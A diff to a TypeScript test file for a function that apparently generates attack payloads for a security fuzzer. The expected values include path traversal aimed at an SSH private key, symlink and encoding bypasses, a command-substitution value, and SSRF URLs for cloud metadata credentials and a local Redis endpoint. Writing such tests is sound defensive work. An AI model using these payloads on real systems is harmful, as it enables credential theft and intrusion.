@@ -11,7 +11,8 @@ const context: PayloadContext = {
     home: '/home/alex',
     credential: '/home/alex/.ssh/id_rsa',
     siblings: [{ root: '/work/notes', dir: '/work/notes-backup', file: '/work/notes-backup/.env' }],
-    links: [{ root: '/work/notes', name: 'shared', pointsTo: '/work/notes-backup', file: '/work/notes-backup/.env' }]
+    links: [{ root: '/work/notes', name: 'shared', pointsTo: '/work/notes-backup', file: '/work/notes-backup/.env' }],
+    fileLinks: [{ root: '/work/notes', name: 'shared.env', pointsTo: '/work/notes-backup/.env' }]
   }
 }
 const read = { absolute: false, writes: false }
@@ -19,30 +20,29 @@ const made = (roles: Parameters<typeof candidatesFor>[0], use = read, strength: 
   candidatesFor(roles, strength, ctx, use).map((entry) => attackOf(entry, 'p', 'k3x9qa07'))
 
 describe('candidatesFor', () => {
-  it('path: climbs, the sibling, the planted link, the absolute key, encoded and separator tricks, then one shell value; relative to the root', () => {
+  it('path: climbs, the sibling, the planted links, the absolute key, encoded, one shell value, then separator tricks; relative to the root', () => {
     const attacks = made(['path'])
     expect(attacks.map((attack) => [attack.technique, attack.value, attack.target])).toEqual([
       ['climb', `${'../'.repeat(12)}home/alex/.ssh/id_rsa`, '/home/alex/.ssh/id_rsa'],
+      ['climb-from-root', `/work/notes/${'../'.repeat(12)}home/alex/.ssh/id_rsa`, '/home/alex/.ssh/id_rsa'],
       ['sibling', '../notes-backup/.env', '/work/notes-backup/.env'],
       ['symlink', 'shared/.env', '/work/notes-backup/.env'],
+      ['symlink-file', 'shared.env', '/work/notes-backup/.env'],
       ['absolute', '/home/alex/.ssh/id_rsa', '/home/alex/.ssh/id_rsa'],
       ['encoded', `${'%2e%2e%2f'.repeat(12)}home%2falex%2f%2essh%2fid_rsa`, '/home/alex/.ssh/id_rsa'],
+      ['substitution', '$(/tmp/k3x9qa07)', undefined],
       ['strip-bypass', `${'....//'.repeat(12)}home/alex/.ssh/id_rsa`, '/home/alex/.ssh/id_rsa'],
-      ['backslash', `${'..\\'.repeat(12)}home\\alex\\.ssh\\id_rsa`, '/home/alex/.ssh/id_rsa'],
-      ['substitution', '$(/tmp/k3x9qa07)', undefined]
+      ['backslash', `${'..\\'.repeat(12)}home\\alex\\.ssh\\id_rsa`, '/home/alex/.ssh/id_rsa']
     ])
   })
 
   it('path, where the last value was absolute: from the root; where the tool writes: a new file named by the marker, never a canary', () => {
     const absolute = made(['path'], { absolute: true, writes: false })
-    expect(absolute.slice(0, 3).map((attack) => attack.value)).toEqual([
-      `/work/notes/${'../'.repeat(12)}home/alex/.ssh/id_rsa`,
-      '/work/notes-backup/.env',
-      '/work/notes/shared/.env'
-    ])
+    expect(absolute.slice(2, 5).map((attack) => attack.value)).toEqual(['/work/notes-backup/.env', '/work/notes/shared/.env', '/work/notes/shared.env'])
     const writes = made(['path'], { absolute: false, writes: true })
-    expect(writes.slice(0, 4).map((attack) => [attack.value, attack.target])).toEqual([
+    expect(writes.slice(0, 5).map((attack) => [attack.value, attack.target])).toEqual([
       [`${'../'.repeat(12)}home/alex/k3x9qa07.txt`, '/home/alex/k3x9qa07.txt'],
+      [`/work/notes/${'../'.repeat(12)}home/alex/k3x9qa07.txt`, '/home/alex/k3x9qa07.txt'],
       ['../notes-backup/k3x9qa07.txt', '/work/notes-backup/k3x9qa07.txt'],
       ['shared/k3x9qa07.txt', '/work/notes-backup/k3x9qa07.txt'],
       ['/home/alex/k3x9qa07.txt', '/home/alex/k3x9qa07.txt']
@@ -96,7 +96,7 @@ describe('candidatesFor', () => {
         .slice(0, 4)
         .map((attack) => attack.value)
     ).toEqual([
-      'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
+      'http://169.254.169.254/latest/meta-data/iam/security-credentials/ec2-app-role',
       'http://127.0.0.1:6379/k3x9qa07',
       'file:///home/alex/.ssh/id_rsa',
       'http://k3x9qa07.invalid/'
